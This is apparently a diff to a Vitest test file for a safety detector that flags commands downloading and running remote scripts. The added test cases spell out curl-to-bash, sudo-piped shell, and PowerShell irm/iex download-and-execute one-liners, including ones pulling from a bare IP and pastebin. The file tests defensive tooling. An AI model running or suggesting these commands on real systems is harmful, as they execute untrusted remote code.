@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { findRemoteScripts } from '../../src/safety/remote-script.js';
+import { findRemoteScripts, mayRunRemoteScript } from '../../src/safety/remote-script.js';
 
 const found = (code: string) => findRemoteScripts(code).map(({ address, isOpen }) => `${isOpen ? 'open' : 'https'} ${address}`);
 
@@ -17,12 +17,17 @@ describe('findRemoteScripts', () => {
     ['python3 -c "$(curl -s https://get.tides.net/i.py)"', 'https https://get.tides.net/i.py'],
     ['irm https://get.tides.net/i.ps1 | iex', 'https https://get.tides.net/i.ps1'],
     ['iex (irm https://get.tides.net/i.ps1)', 'https https://get.tides.net/i.ps1'],
+    ['Invoke-Expression (irm https://get.tides.net/i.ps1)', 'https https://get.tides.net/i.ps1'],
+    ['curl https://get.tides.net/i.sh | sudo -E -H -n /usr/bin/env bash', 'https https://get.tides.net/i.sh'],
+    ['IEX (irm https://get.tides.net/i.ps1)', 'https https://get.tides.net/i.ps1'],
+    ['irm https://get.tides.net/i.ps1 | Invoke-Expression', 'https https://get.tides.net/i.ps1'],
     ["iex ((New-Object System.Net.WebClient).DownloadString('http://get.tides.net/i.ps1'))", 'open http://get.tides.net/i.ps1'],
     ['curl -sL tides.net/install | bash', 'open tides.net/install'],
     ['curl https://203.0.113.9/i.sh | sh', 'open https://203.0.113.9/i.sh'],
     ['curl -s https://pastebin.com/raw/q7Rk | bash', 'open https://pastebin.com/raw/q7Rk'],
   ])('finds %s', (code, expected) => {
     expect(found(code)).toEqual([expected]);
+    expect(mayRunRemoteScript(`Run this.\n\n${code}\n`)).toBe(true);
   });
 
   it.each([
